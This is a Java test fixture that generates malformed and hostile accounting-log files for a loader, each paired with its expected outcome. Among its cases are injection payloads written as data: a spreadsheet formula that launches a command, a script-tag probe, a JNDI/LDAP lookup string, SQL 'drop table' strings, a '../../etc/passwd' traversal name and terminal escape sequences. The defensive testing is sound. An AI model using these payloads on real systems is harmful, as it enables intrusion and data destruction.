package acct.load;

import acct.Logs;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Files that were made to hurt, each with what should become of it. */
final class HostileKinds {
    private static final String HEADER = "type,timeLogged,rcpt,dlvSourceIp,vmta,dlvSize,timeQueued,jobId\n";
    private static final String ROW = row("user@one.example");
    private static final byte[] SOUND = bytes(HEADER + ROW);

    private HostileKinds() {}

    /** What becomes of a file. */
    enum Fate {
        LOADED(0),
        EMPTY(0),
        /** It is no accounting file. */
        REFUSED(4),
        /** It is damaged beyond its lines. */
        UNREADABLE(1);

        private final int exitCode;

        Fate(int exitCode) {
            this.exitCode = exitCode;
        }

        int exitCode() {
            return exitCode;
        }
    }

    /**
     * A file.
     *
     * @param name what it is, which is its name too
     * @param latin its bytes, each as one letter
     * @param fate what becomes of it
     * @param stored rows
     * @param rejected lines
     */
    record Kind(String name, String latin, Fate fate, long stored, long rejected) {
        static Kind of(String name, byte[] content, Fate fate, long stored, long rejected) {
            return new Kind(name, new String(content, StandardCharsets.ISO_8859_1), fate, stored, rejected);
        }

        byte[] content() {
            return latin.getBytes(StandardCharsets.ISO_8859_1);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private static byte[] sound(String name) {
        return bytes(HEADER + row("user@" + name));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String row(String rcpt) {
        return "d,2026-11-19 10:00:00+0000," + rcpt + ",192.0.2.1,v1,10,2026-11-19 09:00:00+0000,j1\n";
    }

    private static String at(String time) {
        return "d," + time + ",user@one.example,192.0.2.1,v1,10,,j1\n";
    }

    private static Kind loaded(String name, String text, long stored, long rejected) {
        return loaded(name, bytes(text), stored, rejected);
    }

    private static Kind loaded(String name, byte[] content, long stored, long rejected) {
        // No two files bring the same row.
        String own = new String(content, StandardCharsets.ISO_8859_1).replace("one.example", name + ".example");
        return new Kind(name, own, Fate.LOADED, stored, rejected);
    }

    private static Kind refused(String name, byte[] content) {
        return Kind.of(name, content, Fate.REFUSED, 0, 0);
    }

    private static Kind refused(String name, String text) {
        return refused(name, bytes(text));
    }

    private static Kind unreadable(String name, byte[] content) {
        return Kind.of(name, content, Fate.UNREADABLE, 0, 0);
    }

    static List<Kind> all() {
        return java.util.stream.Stream.of(
                        notAccounting(), encodings(), headers(), lines(), cells(), times(), compressed(), damaged())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Kind> notAccounting() {
        return List.of(
                refused("utf-16-with-mark", (HEADER + ROW).getBytes(StandardCharsets.UTF_16)),
                refused("utf-16-without-mark", (HEADER + ROW).getBytes(StandardCharsets.UTF_16BE)),
                refused("utf-32", (HEADER + ROW).getBytes(Charset.forName("UTF-32"))),
                refused("ebcdic", (HEADER + ROW).getBytes(Charset.forName("IBM1047"))),
                refused("full-width-letters", HEADER.replace("type", "ｔｙｐｅ") + ROW),
                refused("cyrillic-letter-in-type", HEADER.replace("type", "tуpe") + ROW),
                refused("invisible-blank-in-type", HEADER.replace("type", "ty\u200bpe") + ROW),
                refused("comment-first", "# made by hand\n" + HEADER + ROW),
                refused("tabs", (HEADER + ROW).replace(',', '\t')),
                refused("semicolons", (HEADER + ROW).replace(',', ';')),
                refused("json-lines", "{\"type\":\"d\",\"timeLogged\":\"2026-11-19 10:00:00+0000\"}\n"),
                refused("html", "<!DOCTYPE html><title>404</title>type,timeLogged,rcpt\n"),
                refused("row-before-header", ROW + HEADER),
                refused("elf", Logs.joined(bytes("\u007fELF\2\1\1\0"), SOUND)),
                refused("png", Logs.joined(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}, SOUND)),
                refused("tar", Logs.joined(new byte[512], SOUND)),
                refused("bzip2", Logs.joined(bytes("BZh91AY&SY"), new byte[100])),
                refused("xz", Logs.joined(new byte[] {(byte) 0xfd, '7', 'z', 'X', 'Z', 0}, new byte[100])),
                refused("zip", Logs.joined(new byte[] {'P', 'K', 3, 4}, SOUND)),
                refused("gzip-in-gzip", Logs.gzip(Logs.gzip(SOUND))),
                refused("zstd-in-gzip", Logs.gzip(Logs.zstd(SOUND))),
                refused("gzip-in-zstd", Logs.zstd(Logs.gzip(SOUND))));
    }

    private static List<Kind> encodings() {
        return List.of(
                loaded("cell-not-utf-8", Logs.joined(SOUND, raw(row("ü@one.example"), "ISO-8859-1")), 2, 0),
                loaded("overlong-comma", Logs.joined(SOUND, spliced(0xc0, 0xac)), 2, 0),
                loaded("lone-surrogate", Logs.joined(SOUND, spliced(0xed, 0xa0, 0x80)), 2, 0),
                loaded("beyond-unicode", Logs.joined(SOUND, spliced(0xf7, 0xbf, 0xbf, 0xbf)), 2, 0),
                loaded("cut-in-a-letter", Logs.joined(SOUND, spliced(0xe2, 0x82)), 2, 0),
                loaded("written-backwards", HEADER + row("\u202eelpmaxe.eno@resu\u202c"), 1, 0),
                loaded("terminal-commands", HEADER + row("\u001b]0;owned\u0007\u001b[2J@one.example"), 1, 0),
                loaded("delete-and-c1", HEADER + row("\u007f\u0085\u009b31m@one.example"), 1, 0),
                loaded("line-separators-of-unicode", HEADER + row("a\u2028b\u2029c\u0085d@one.example"), 1, 0),
                loaded("form-feeds", HEADER + row("a\fb\u000bc@one.example"), 1, 0),
                loaded("a-thousand-combining-marks", HEADER + row("z" + "\u0301".repeat(1000)), 1, 0));
    }

    private static byte[] raw(String text, String charset) {
        return text.getBytes(Charset.forName(charset));
    }

    /** A row with bytes that are no text in its recipient. */
    private static byte[] spliced(int... odd) {
        byte[] middle = new byte[odd.length];
        for (int i = 0; i < odd.length; i++) {
            middle[i] = (byte) odd[i];
        }
        String row = row("|@one.example");
        int at = row.indexOf('|');
        return Logs.joined(bytes(row.substring(0, at)), middle, bytes(row.substring(at + 1)));
    }

    private static List<Kind> headers() {
        String many = IntStream.range(0, 5_000).mapToObj(i -> ",header_x-" + i).collect(Collectors.joining());
        return List.of(
                loaded("header-in-capitals", HEADER.toUpperCase(java.util.Locale.ROOT) + ROW, 1, 0),
                loaded("blank-lines-first", "\n".repeat(10_000) + HEADER + ROW, 1, 0),
                loaded("header-on-every-line", (HEADER + ROW).repeat(500), 500, 0),
                loaded("time-named-a-hundred-times", twice("timeLogged"), 1, 0),
                loaded("names-of-nothing", "type,timeLogged,rcpt,,,,,\n" + at("2026-11-19 10:00:00+0000"), 1, 0),
                loaded(
                        "five-thousand-copied-headers",
                        "type,timeLogged,rcpt" + many + "\n"
                                + ("d,2026-11-19 10:00:00+0000,user@one.example" + ",x".repeat(5_000) + "\n")
                                        .repeat(20),
                        20,
                        0),
                loaded(
                        "name-of-a-hundred-thousand-letters",
                        HEADER.strip() + "," + "n".repeat(100_000) + "\n" + ROW,
                        1,
                        0),
                loaded("name-with-sql", HEADER.strip() + ",\"x'); drop table load; --\"\n" + ROW, 1, 0),
                loaded(
                        "header-shrinks-and-grows",
                        HEADER + ROW + "type,timeLogged\nd,2026-11-19 10:00:00+0000\n" + HEADER + ROW,
                        3,
                        0));
    }

    private static String twice(String name) {
        return "type,rcpt" + ("," + name).repeat(100) + "\nd,user@one.example" + ",2026-11-19 10:00:00+0000".repeat(100)
                + "\n";
    }

    private static List<Kind> lines() {
        return List.of(
                loaded("many-empty-cells", HEADER + "d" + ",".repeat(100_000) + "\n" + ROW, 1, 1),
                loaded("nul-in-the-middle", HEADER + row("a\0b@one.example") + ROW, 1, 1),
                loaded("quote-that-swallows-rows", HEADER + "d,\"2026-11-19\n" + ROW.repeat(50), 50, 1),
                loaded("ten-thousand-quotes", HEADER + "d," + "\"".repeat(10_001) + "\n" + ROW, 1, 1),
                loaded("backslash-before-quote", HEADER + row("\"a\\\"b\"") + ROW, 1, 1),
                loaded("quote-within-a-cell", HEADER + row("a\"b@one.example"), 1, 0),
                loaded("line-of-seventeen-megabytes", HEADER + "d," + "x".repeat(17 << 20) + "\n" + ROW, 1, 1),
                loaded("blanks-of-five-megabytes", HEADER + " ".repeat(5 << 20) + "\n" + ROW, 1, 0),
                loaded("same-row-very-often", HEADER + ROW.repeat(20_000), 20_000, 0),
                loaded("mixed-line-ends", HEADER.strip() + "\r\n" + ROW + ROW.strip() + "\r\n\r\n\n" + ROW, 3, 0));
    }

    private static List<Kind> cells() {
        return List.of(
                loaded(
                        "types-of-nothing",
                        HEADER
                                + ROW.replaceFirst("d", "D")
                                + ROW.replaceFirst("d", " d ")
                                + ROW.replaceFirst("d", "\u00a0d")
                                + ROW.replaceFirst("d", "dd"),
                        0,
                        4),
                loaded("type-of-a-megabyte", HEADER + ROW.replaceFirst("d", "d".repeat(1 << 20)) + ROW, 1, 1),
                loaded(
                        "sizes-that-are-none",
                        HEADER
                                + Arrays.stream("99999999999999999999,-1,1e309,NaN,0x10,1_000,٣".split(","))
                                        .map(size -> ROW.replace(",10,", "," + size + ","))
                                        .collect(Collectors.joining()),
                        7,
                        0),
                loaded(
                        "addresses-that-are-none",
                        HEADER
                                + Arrays.stream(("256.1.1.1 1.2.3.4.5 fe80::1%eth0 [::1] 0x7f.1 "
                                                        + "2001:db8::/33 ::ffff:192.0.2.1 1::2::3 127.1 4294967295")
                                                .split(" "))
                                        .map(ip -> ROW.replace("192.0.2.1", ip))
                                        .collect(Collectors.joining()),
                        10,
                        0),
                loaded("recipient-of-a-megabyte", HEADER + row("x".repeat(1 << 20) + "@one.example"), 1, 0),
                loaded("recipient-of-at-signs", HEADER + row("@".repeat(500)) + row("@") + row(""), 3, 0),
                loaded(
                        "formulas-and-markup",
                        HEADER
                                + row("=cmd|' /C calc'!A0")
                                + row("<script>alert(1)</script>")
                                + row("${jndi:ldap://192.0.2.1/a}")
                                + row("'; drop table load; --"),
                        4,
                        0),
                loaded(
                        "a-job-a-row",
                        HEADER
                                + IntStream.range(0, 5_000)
                                        .mapToObj(i -> ROW.replace("j1", "j" + i + "'\\"))
                                        .collect(Collectors.joining()),
                        5_000,
                        0));
    }

    private static List<Kind> times() {
        return List.of(
                loaded(
                        "days-that-never-were",
                        HEADER
                                + at("2026-02-30 10:00:00+0000")
                                + at("2026-13-01 10:00:00+0000")
                                + at("2026-11-19 24:00:01+0000")
                                + at("2026-11-19 10:61:00+0000"),
                        0,
                        4),
                loaded(
                        "offsets-that-are-none",
                        HEADER + at("2026-11-19 10:00:00+9999") + at("2026-11-19 10:00:00+24:00"),
                        0,
                        2),
                loaded(
                        "seconds-of-epoch-without-end",
                        HEADER + at("9".repeat(19)) + at("-" + "9".repeat(19)) + at("9".repeat(400)),
                        0,
                        3),
                loaded(
                        "last-and-first-year",
                        HEADER + at("9999-12-31 23:59:59+0000") + at("0001-01-01 00:00:00+0000"),
                        1,
                        1),
                loaded(
                        "years-beyond",
                        HEADER + at("+10000-01-01 00:00:00+0000") + at("-0001-01-01 00:00:00+0000"),
                        0,
                        2),
                loaded(
                        "queued-in-another-century",
                        HEADER
                                + ROW.replace("2026-11-19 09", "1926-11-19 09")
                                + ROW.replace("2026-11-19 09", "2126-11-19 09"),
                        2,
                        0),
                loaded(
                        "every-offset",
                        HEADER
                                + IntStream.range(0, 1_440)
                                        .mapToObj(i -> at(String.format(
                                                java.util.Locale.ROOT,
                                                "2026-11-19 10:00:00%+03d%02d",
                                                i / 60 - 12,
                                                i % 60)))
                                        .collect(Collectors.joining()),
                        1_440,
                        0));
    }

    private static List<Kind> compressed() {
        return List.of(
                loaded("gzip-with-all-its-fields.gz", allFields(Logs.gzip(sound("fields"))), 1, 0),
                loaded(
                        "gzip-of-many-empty-members.gz",
                        Logs.joined(repeated(Logs.gzip(new byte[0]), 1_000), Logs.gzip(sound("members"))),
                        1,
                        0),
                loaded("gzip-of-one-member-a-byte.gz", split(sound("split")), 1, 0),
                loaded("gzip-padded-with-nuls.gz", Logs.joined(Logs.gzip(sound("padded")), new byte[1 << 20]), 1, 0),
                loaded(
                        "zstd-after-frames-to-skip.zst",
                        Logs.joined(repeated(skippable(100), 1_000), Logs.zstd(sound("skipped"))),
                        1,
                        0),
                loaded("plain-named-gzip.gz", SOUND, 1, 0),
                loaded(
                        "gzip-of-one-line-a-million-times.gz",
                        Logs.gzip(bytes(HEADER + "x\n".repeat(300_000) + row("user@million"))),
                        1,
                        300_000),
                Kind.of("nothing.gz", new byte[0], Fate.EMPTY, 0, 0),
                Kind.of("gzip-of-nothing.gz", Logs.gzip(new byte[0]), Fate.EMPTY, 0, 0),
                Kind.of("header-only.zst", Logs.zstd(bytes(HEADER)), Fate.EMPTY, 0, 0));
    }

    private static List<Kind> damaged() {
        byte[] gzip = Logs.gzip(SOUND);
        byte[] zstd = Logs.zstd(SOUND);
        return List.of(
                unreadable("gzip-cut-in-its-head.gz", Arrays.copyOf(gzip, 5)),
                unreadable("gzip-with-another-checksum.gz", flipped(gzip, gzip.length - 8)),
                unreadable("gzip-with-another-length.gz", flipped(gzip, gzip.length - 1)),
                unreadable("gzip-of-no-known-method.gz", flipped(gzip, 2)),
                unreadable("zstd-with-another-checksum.zst", flipped(zstd, zstd.length - 1)),
                unreadable(
                        "zstd-that-needs-a-dictionary.zst",
                        new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0x23, 1, 2, 3, 4, 10, 1, 0, 0}),
                unreadable(
                        "zstd-with-a-window-without-end.zst",
                        new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd, 0, (byte) 0xff, 1, 0, 0}),
                unreadable("zstd-cut.zst", Arrays.copyOf(zstd, zstd.length - 6)));
    }

    private static byte[] flipped(byte[] bytes, int place) {
        byte[] changed = bytes.clone();
        changed[place] ^= 0x5a;
        return changed;
    }

    private static byte[] repeated(byte[] part, int times) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < times; i++) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] split(byte[] plain) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte one : plain) {
            out.writeBytes(Logs.gzip(new byte[] {one}));
        }
        return out.toByteArray();
    }

    private static byte[] skippable(int length) {
        return Arrays.copyOf(new byte[] {0x50, 0x2a, 0x4d, 0x18, (byte) length}, 8 + length);
    }

    /** The same member with an extra field, a name, a comment and a checksum of the head. */
    private static byte[] allFields(byte[] gzip) {
        byte[] head = Arrays.copyOf(gzip, 10);
        head[3] = 0x02 | 0x04 | 0x08 | 0x10;
        byte[] fields =
                Logs.joined(head, new byte[] {4, 0, 1, 2, 3, 4}, bytes("../../etc/passwd\0"), bytes("\u001b[2J\0"));
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(fields);
        byte[] sum = {(byte) crc.getValue(), (byte) (crc.getValue() >> 8)};
        return Logs.joined(fields, sum, Arrays.copyOfRange(gzip, 10, gzip.length));
    }
}
